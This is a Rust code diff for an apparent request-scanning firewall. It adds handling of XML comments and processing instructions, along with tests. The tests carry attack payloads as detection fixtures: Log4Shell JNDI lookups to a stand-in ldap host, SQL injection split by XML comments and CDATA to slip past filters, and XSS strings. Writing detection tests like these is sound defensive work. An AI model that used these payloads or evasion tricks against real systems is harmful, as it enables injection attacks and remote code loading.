@@ -150,7 +150,7 @@ impl<'p> Scan<'p> {
 
     /// Names, names of files, and what is no file. False: nobody can tell where one ends, or what one is called.
     fn parts(&mut self, headers: &HeaderMap, bytes: &Bytes) -> bool {
-        let Some(mut parts) = multipart::parts(headers, bytes) else { return false };
+        let Ok(mut parts) = multipart::parts(headers, bytes) else { return false };
         let mut place = 0;
         // All of it is there: nothing is waited for.
         let walked = async {
@@ -189,6 +189,10 @@ impl<'p> Scan<'p> {
                 Event::Text(it) => text.extend_from_slice(&it),
                 Event::CData(it) => text.extend_from_slice(&it),
                 Event::GeneralRef(it) => text.extend([b"&", &it[..], b";"].concat()),
+                // Readers join the text around them (`textContent`); what they say themselves is a value of its own.
+                Event::Comment(it) => self.value(Place::Body, &[], &it, Plus::Plus),
+                Event::PI(it) => self.value(Place::Body, &[], &it, Plus::Plus),
+                Event::Decl(_) => {}
                 event => {
                     self.value(Place::Body, &[], &text, Plus::Plus);
                     text.clear();
@@ -355,6 +359,17 @@ mod tests {
         check_body(json!({}), "text/plain", "fine &\n${jndi:ldap://x.test/a}", &["log4shell body"]);
         check_body(json!({}), "application/xml", "<a><b c=\"&lt;script>\">fine</b></a>", &["xss body"]);
         check_body(json!({}), "text/xml", "<a>1&apos; OR &apos;1&apos;=&apos;1</a>", &["sqli body"]);
+        for hole in ["<!-- -->", "<?a?>", "<![CDATA[]]>"] {
+            let text = format!("<a>1' UNI{hole}ON SEL{hole}ECT pass FR{hole}OM users--</a>");
+            check_body(json!({}), "application/xml", &text, &["sqli body"]);
+            check_body(
+                json!({}),
+                "application/xml",
+                &format!("<a>${{jn{hole}di:ldap://x.test/a}}</a>"),
+                &["log4shell body"],
+            );
+        }
+        check_body(json!({}), "application/xml", "<a>fine<!-- ${jndi:ldap://x.test/a} --></a>", &["log4shell body"]);
         let part =
             |value: &str| format!("--b\r\nContent-Disposition: form-data; name=\"n\"\r\n\r\n{value}\r\n--b--\r\n");
         let multipart = "multipart/form-data; boundary=b";
